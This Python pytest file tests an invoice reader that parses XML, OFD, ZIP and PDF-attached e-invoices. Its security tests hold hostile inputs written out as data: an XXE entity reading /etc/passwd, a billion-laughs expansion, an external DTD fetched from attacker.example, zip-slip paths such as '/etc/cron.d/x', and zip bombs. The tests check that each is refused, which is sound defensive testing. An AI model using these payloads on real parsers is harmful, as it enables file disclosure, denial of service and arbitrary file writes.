"""Structured originals as files: XML, OFD, ZIP, PDF with data attached; and those that attack or break."""

import random
import zipfile
from dataclasses import replace
from decimal import Decimal
from io import BytesIO

import pytest

from core.errors import Unreadable
from core.invoice import FieldName, FieldState, Kind, Source, questions
from integrations.reading import ofd, opening
from integrations.reading.limits import ReadingLimits
from integrations.reading.pool import LIGHT, Lanes, ReaderPool
from integrations.reading.read import read_document
from integrations.reading.schemas import _OTHERS, _schema
from integrations.reading.sniff import OFD, XML, ZIP, media_of
from sandbox.papers import invent, not_an_invoice, to_ofd, to_older_xml, to_pdf, to_xml, to_zip
from tests.originals import OLDER_VAT, cii, rail, ubl, with_attachment

LIMITS = ReadingLimits()


def read(content, limits=LIMITS):
    return read_document(content, media_of(content, limits), limits)


def only(content):
    (invoice,) = read(content).invoices
    return invoice


def refused(content, limits=LIMITS):
    with pytest.raises(Unreadable) as caught:
        read(content, limits)
    return caught.value


def labels_of(paper):
    return {name: said for name, said in paper.labels().items() if said and name in set(FieldName)}


@pytest.mark.parametrize("kind", ["digital_special", "digital_ordinary", "vat_e_ordinary"])
def test_an_ofd_is_read_wholly_and_asks_nothing(kind):
    paper = invent(51, kind)
    content = to_ofd(paper)
    assert media_of(content) == OFD
    invoice = only(content)
    assert invoice.kind is Kind(kind)
    assert {name.value: field.value for name, field in invoice.fields.items()} == labels_of(paper)
    assert {field.state for field in invoice.fields.values()} == {FieldState.VERIFIED}
    assert questions(invoice) == ()
    assert invoice.findings == ()


def test_an_ofd_with_nothing_but_xbrl():
    invoice = only(to_ofd(invent(52), attachment=OLDER_VAT))
    assert (invoice.kind, invoice.value(FieldName.TOTAL)) == (Kind.VAT_E_ORDINARY, "10440.00")
    assert invoice.fields[FieldName.TOTAL].sources == (Source.OFD,)
    assert questions(invoice) == ()


def test_an_ofd_that_is_no_invoice_is_named_so():
    content = to_ofd(invent(53), attachment=b"<note><to>all</to></note>")
    with zipfile.ZipFile(BytesIO(content)) as archive:
        parts = [(name, archive.read(name)) for name in archive.namelist()]
    bare = [(name, part if "Content.xml" not in name else b"<Page/>") for name, part in parts]
    assert only(to_zip(bare)).kind is Kind.NOT_INVOICE


def test_undeclared_prefixes_and_empty_ones_are_read_over():
    parts = dict(_parts(to_ofd(invent(54, "digital_special"))))
    tags = parts["Doc_0/Tags/CustomTag.xml"].decode()
    parts["Doc_0/Tags/CustomTag.xml"] = (
        tags.replace('<EInvoice xmlns:ofd="http://www.ofdspec.org/2016">', '<:EInvoice xmlns:="">').replace(
            "</EInvoice>", "</:EInvoice>"
        )
    ).encode()
    assert only(to_zip(parts.items())).value(FieldName.NUMBER) == invent(54, "digital_special").number


def _parts(content):
    with zipfile.ZipFile(BytesIO(content)) as archive:
        return [(name, archive.read(name)) for name in archive.namelist()]


def test_the_xml_and_the_ofd_of_one_invoice_in_a_zip_are_one():
    paper = invent(55, "digital_special")
    reading = read(to_zip((("发票/a.ofd", to_ofd(paper)), ("发票/a.xml", to_xml(paper)))))
    (invoice,) = reading.invoices
    assert invoice.part == "发票/a.xml"
    assert invoice.fields[FieldName.TOTAL].sources == (Source.XML, Source.OFD)
    assert reading.problems == ()


def test_a_zip_gives_what_can_be_read_and_names_what_cannot():
    first, second = invent(56, "digital_special"), invent(57, "digital_ordinary")
    files = (
        ("one.xml", to_xml(first)),
        ("__MACOSX/._one.xml", b"rubbish"),
        (
            "inner.zip",
            to_zip((("two.pdf", to_pdf(second)), ("broken.pdf", b"%PDF-1.7 half"), ("deep.zip", to_zip(())))),
        ),
        ("notes.txt", "只是笔记".encode()),
    )
    reading = read(to_zip(files))
    assert [invoice.value(FieldName.NUMBER) for invoice in reading.invoices] == [first.number, second.number]
    assert [(problem.name, problem.code) for problem in reading.problems] == [
        ("inner.zip › broken.pdf", "E-PDF-BROKEN"),
        ("inner.zip › deep.zip", "E-ZIP-DEPTH"),
        ("notes.txt", "E-TYPE"),
    ]
    assert reading.invoices[1].part == "inner.zip › two.pdf"
    assert set(reading.previews) == {reading.invoices[1].page}


def test_names_from_chinese_archivers_are_read():
    content = to_zip((("发票.xml", to_xml(invent(58))),))
    gbk = content.replace("发票".encode(), "发票".encode("gbk") + b"xx")  # as long as before; the flag of UTF-8 goes
    flagged = bytes([0x00, 0x08])
    assert flagged in gbk
    (invoice,) = read(gbk.replace(flagged, bytes(2))).invoices
    assert invoice.part == "发票xx.xml"


def test_a_locked_entry_and_no_entry():
    content = bytearray(to_zip((("a.xml", to_xml(invent(59))),)))
    content[6] |= 1
    directory = content.index(b"PK\x01\x02")
    content[directory + 8] |= 1
    assert refused(bytes(content)).code == "E-ZIP-LOCKED"
    assert refused(to_zip((("folder/", b""),))).code == "E-ZIP-EMPTY"


def test_the_data_attached_to_a_rail_ticket_lead_its_pdf():
    paper = invent(60, "digital_ordinary")
    reading = read(with_attachment(to_pdf(paper), ("rai_issuer_1.xml", rail()), ("other.txt", b"hello")))
    ticket, page = reading.invoices
    assert (ticket.kind, ticket.value(FieldName.TAX)) == (Kind.RAIL_ETICKET, "9.00")
    assert page.value(FieldName.NUMBER) == paper.number  # another invoice on the page is not hidden by the data
    assert set(reading.previews) == {1}


def test_a_page_that_differs_from_its_own_data_blocks():
    paper = invent(61, "digital_special")
    edited = invent(61, "digital_special", printed_total=Decimal("1.00"), qr="https://example.com/")
    (invoice,) = read(with_attachment(to_pdf(edited), ("invoice.xml", to_xml(paper)))).invoices
    assert [found.code for found in invoice.findings] == ["X1"]


def test_factur_x_is_read_from_its_data_and_shown_by_its_page():
    reading = read(with_attachment(to_pdf(invent(62)), ("factur-x.xml", cii())))
    (invoice,) = reading.invoices
    assert (invoice.kind, invoice.currency()) == (Kind.FOREIGN_INVOICE, "EUR")
    assert set(reading.previews) == {1}


@pytest.mark.parametrize("content", [cii(), ubl(), ubl("CreditNote")])
def test_bare_en_16931_files_are_read(content):
    assert media_of(content) == XML
    assert only(content).kind is Kind.FOREIGN_INVOICE


@pytest.mark.parametrize(
    ("content", "reason"),
    [
        (cii(total="119.00e"), "not a valid value"),
        (cii(more="<ram:InvoiceReferencedDocument/>"), "InvoiceReferencedDocument"),
        (cii().replace(b"</ram:InvoiceCurrencyCode>", b"</ram:InvoiceCurrencyCode><Loose/>"), "Loose"),
    ],
)
@pytest.mark.parametrize("attached", [False, True])
def test_what_breaks_its_own_format_is_refused_with_the_reason(content, reason, attached):
    problem = refused(with_attachment(to_pdf(invent(63)), ("factur-x.xml", content)) if attached else content)
    assert problem.code == "E-EINVOICE-INVALID"
    assert reason in problem.message.values["reason"]


def test_data_that_say_a_wrong_encoding_are_refused_with_the_reason():
    content = cii().replace(b'encoding="UTF-8"', b'encoding="UTF-8-W/O-BOM"')
    problem = refused(with_attachment(to_pdf(invent(64)), ("factur-x.xml", content)))
    assert problem.code == "E-EINVOICE-INVALID"
    assert "declaration" in problem.message.values["reason"]


def test_an_attachment_that_is_nothing_changes_nothing():
    paper = invent(65)
    content = with_attachment(to_pdf(paper), ("metadata.xml", b"<broken"), ("more.xml", b"<note/>"))
    assert only(content).value(FieldName.NUMBER) == paper.number


def test_chinese_encodings_are_read():
    paper = invent(66, "vat_e_ordinary")
    content = to_older_xml(paper).decode().replace('encoding="utf-8"', 'encoding="GB2312"').encode("gb18030")
    assert only(content).value(FieldName.SELLER_NAME) == paper.seller_name


ENTITIES = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><EInvoice>&a;</EInvoice>'
LAUGHS = (
    b'<!DOCTYPE x [<!ENTITY a0 "ha">'
    + b"".join(b'<!ENTITY a%d "%b">' % (n, b"&a%d;" % (n - 1) * 10) for n in range(1, 10))
    + b"]><EInvoice>&a9;</EInvoice>"
)
OUTSIDE = b'<!DOCTYPE EInvoice SYSTEM "http://attacker.example/x.dtd"><EInvoice/>'


@pytest.mark.parametrize("content", [ENTITIES, LAUGHS, OUTSIDE])
@pytest.mark.parametrize("inside", ["file", "ofd", "zip", "pdf"])
def test_entities_are_refused_wherever_they_stand(content, inside):
    match inside:
        case "file":
            assert refused(content).code == "E-XML-ENTITIES"
        case "ofd":
            assert refused(to_ofd(invent(67), attachment=content)).code == "E-XML-ENTITIES"
        case "zip":
            assert refused(to_zip((("a.xml", content),))).code == "E-XML-ENTITIES"
        case "pdf":
            assert refused(with_attachment(to_pdf(invent(67)), ("factur-x.xml", content))).code == "E-XML-ENTITIES"


@pytest.mark.parametrize("name", ["../a.xml", "a/../../b.xml", "/etc/cron.d/x", "C:/x.xml", "..\\x.xml"])
def test_names_that_lead_outside_are_refused(name):
    assert refused(to_zip(((name, to_xml(invent(68))),))).code == "E-ZIP-PATH"


def test_an_ofd_with_a_name_that_leads_outside_is_refused():
    assert refused(to_zip([*_parts(to_ofd(invent(69))), ("../../x", b"")])).code == "E-ZIP-PATH"


def test_ten_thousand_entries_are_refused():
    many = to_zip((f"{number}.xml", b"") for number in range(10_000))
    assert refused(many).code == "E-ZIP-ENTRIES"
    assert refused(to_zip([*_parts(many), *_parts(to_ofd(invent(70)))])).code == "E-ZIP-ENTRIES"


def test_two_hundred_entries_pass_and_one_more_does_not():
    limits = replace(LIMITS, entries=3)
    files = [(f"{number}.xml", to_xml(invent(number, "digital_special"))) for number in range(4)]
    assert len(read(to_zip(files[:3]), limits).invoices) == 3
    assert refused(to_zip(files), limits).code == "E-ZIP-ENTRIES"
    nested = to_zip((*files[:2], ("inner.zip", to_zip(files[2:]))))
    reading = read(nested, limits)
    assert [problem.code for problem in reading.problems] == ["E-ZIP-ENTRIES"]


def test_bombs_are_refused_before_they_are_unpacked():
    nothing = bytes(30 * 1024**2)
    assert refused(to_zip((("a.pdf", nothing),))).code == "E-TOO-LARGE"
    assert refused(to_zip((f"{number}.pdf", nothing) for number in range(8))).code == "E-ZIP-BOMB"
    assert refused(to_zip([*_parts(to_ofd(invent(71))), *((f"{n}", nothing) for n in range(8))])).code == "E-ZIP-BOMB"


def test_an_ofd_with_an_archive_inside_is_refused():
    assert refused(to_zip([*_parts(to_ofd(invent(72))), ("Doc_0/x.zip", to_zip(()))])).code == "E-OFD-NESTED"


def test_an_ofd_of_too_many_pages_is_refused():
    parts = dict(_parts(to_ofd(invent(73))))
    page = b'<ofd:Page ID="1" BaseLoc="Pages/Page_0/Content.xml"/>'
    parts["Doc_0/Document.xml"] = parts["Doc_0/Document.xml"].replace(page, page * 51)
    assert refused(to_zip(parts.items())).code == "E-PAGES"


@pytest.mark.parametrize("content", [b"<EInvoice>", b"<a><b></a>", b'<?xml version="1.0" encoding="nonsense"?><a/>'])
def test_broken_xml_is_said_to_be_broken(content):
    assert refused(content).code == "E-XML-BROKEN"


def test_deep_and_wide_xml_does_no_harm():
    assert refused(b"<a>" * 100_000 + b"</a>" * 100_000).code in {"E-XML-BROKEN", "E-NOT-AN-INVOICE"}
    assert refused(b"<r>" + b"<a/>" * 900_000 + b"</r>").code == "E-XML-TOO-LARGE"


def test_another_xml_is_refused_with_what_can_be_read():
    assert refused(b"<?xml version='1.0'?><rss/>").code == "E-NOT-AN-INVOICE"


def test_flipped_bytes_are_read_or_refused():
    dice, outcomes = random.Random(9), set()
    paper = invent(74, "digital_special")
    for whole in (to_xml(paper), to_ofd(paper), to_zip((("a.xml", to_xml(paper)),)), cii()):
        for _ in range(60):
            content = bytearray(whole)
            for _ in range(dice.randint(1, 8)):
                content[dice.randrange(4, len(content))] = dice.randrange(256)
            try:
                read(bytes(content))
                outcomes.add("read")
            except Unreadable as problem:
                outcomes.add(problem.code)
    assert "read" in outcomes
    assert {outcome.split("-")[1] for outcome in outcomes - {"read"}} <= {
        "XML",
        "ZIP",
        "OFD",
        "EINVOICE",
        "NOT",
        "TYPE",
    }


def test_light_files_wait_behind_no_photo():
    """The heavy pool has nobody to read with; an XML does not notice."""
    with ReaderPool(1, reader=LIGHT) as light, ReaderPool(0) as heavy:
        lanes = Lanes(light, heavy)
        paper = invent(75, "digital_special")
        for content in (to_xml(paper), to_ofd(paper)):
            assert lanes.read(content, "x").invoices[0].value(FieldName.NUMBER) == paper.number
        with pytest.raises(Unreadable) as caught:
            lanes.read(LAUGHS, "x")
        assert caught.value.code == "E-XML-ENTITIES"


def test_problems_of_a_zip_come_back_from_the_child():
    with ReaderPool(1, reader="tests.integrations.reading.readers:obey_or_unpack") as pool:
        reading = pool.read(to_zip((("a.xml", to_xml(invent(76))), ("b.txt", b"hello"))), "x.zip")
    assert [(problem.name, problem.code) for problem in reading.problems] == [("b.txt", "E-TYPE")]


def test_what_is_light_loads_no_engine():
    assert not {"cv2", "rapidocr", "onnxruntime"} & set(vars(opening)) | set(vars(ofd)) & {"cv2", "numpy"}


@pytest.mark.parametrize("name", sorted(_OTHERS.values()))
def test_the_schemas_are_where_the_library_keeps_them(name):
    assert _schema(name) is not None


def test_a_holiday_picture_in_a_zip_is_read_like_any_other_picture():
    assert media_of(to_zip((("a.png", not_an_invoice()),))) == ZIP
